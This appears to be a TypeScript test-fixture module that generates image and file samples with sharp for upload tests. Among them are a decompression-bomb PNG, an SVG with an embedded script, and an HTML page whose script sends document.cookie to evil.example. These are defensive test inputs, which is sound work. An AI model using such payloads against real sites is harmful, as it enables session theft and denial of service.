import { randomBytes } from "node:crypto";
import { readdir } from "node:fs/promises";
import path from "node:path";
import sharp from "sharp";

/**
 * Files for upload tests, made here with sharp so that no binary fixture is checked in.
 */

/**
 * A photo as a phone takes it: stored sideways with an EXIF orientation (so it is 600 x 800
 * upright), the camera's make and model, and where it was taken.
 */
export function phonePhotoWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 800, height: 600, channels: 3, background: "#4a7a3a" } })
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: "PhoneMaker", Model: "Phone 12" },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: "0/1 17/1 1234/100",
        GPSLongitudeRef: "E",
        GPSLongitude: "34/1 45/1 0/1",
      },
    })
    .toBuffer();
}

/** A PNG with transparency, 2000 x 1000: wider than the largest variant. */
export function widePng(): Promise<Buffer> {
  return sharp({
    create: { width: 2000, height: 1000, channels: 4, background: { r: 200, g: 40, b: 40, alpha: 0.5 } },
  })
    .png()
    .toBuffer();
}

/**
 * A photograph full of fine detail (a crowd, leaves), 3000 x 2000 by default: its JPEGs are large,
 * the largest variant's well over 300 KB. Random pixels, enlarged, stand in for the detail.
 */
export function detailedPhoto(width = 3000, height = 2000): Promise<Buffer> {
  const detail = { width: 600, height: 400, channels: 3 as const };
  return sharp(randomBytes(detail.width * detail.height * 3), { raw: detail })
    .resize(width, height, { kernel: "cubic" })
    .jpeg({ quality: 90 })
    .toBuffer();
}

export function smallImage(format: "jpeg" | "png" | "webp" | "gif" | "avif", width = 300): Promise<Buffer> {
  return sharp({ create: { width, height: Math.round(width / 2), channels: 3, background: "#335577" } })
    .toFormat(format)
    .toBuffer();
}

/** A JPEG cut off at 60%, as an upload that broke off would leave it. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await sharp({
    create: {
      width: 600,
      height: 400,
      channels: 3,
      background: "#888888",
      noise: { type: "gaussian", mean: 128, sigma: 30 },
    },
  })
    .jpeg()
    .toBuffer();
  return whole.subarray(0, Math.floor(whole.length * 0.6));
}

/** A decompression bomb: a PNG of about 100 KB that declares 10,000 x 10,000 pixels (100 megapixels). */
export function decompressionBomb(): Promise<Buffer> {
  return sharp({
    create: { width: 10_000, height: 10_000, channels: 3, background: "#ffffff" },
    limitInputPixels: false,
  })
    .toColourspace("b-w")
    .png({ compressionLevel: 9 })
    .toBuffer();
}

export const svgWithScript = Buffer.from(
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>fetch("/api/login")</script><circle cx="50" cy="50" r="40"/></svg>`,
);

export const htmlPage = Buffer.from(
  `<!doctype html><html><body><script>document.location="https://evil.example/?"+document.cookie</script></body></html>`,
);

export const pdfDocument = Buffer.from(
  "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
);

/** Every file under a folder, as sorted relative paths; [] when the folder does not exist. */
export async function filesUnder(folder: string): Promise<string[]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries
    .filter((entry) => entry.isFile())
    .map((entry) => path.relative(folder, path.join(entry.parentPath, entry.name)))
    .sort();
}
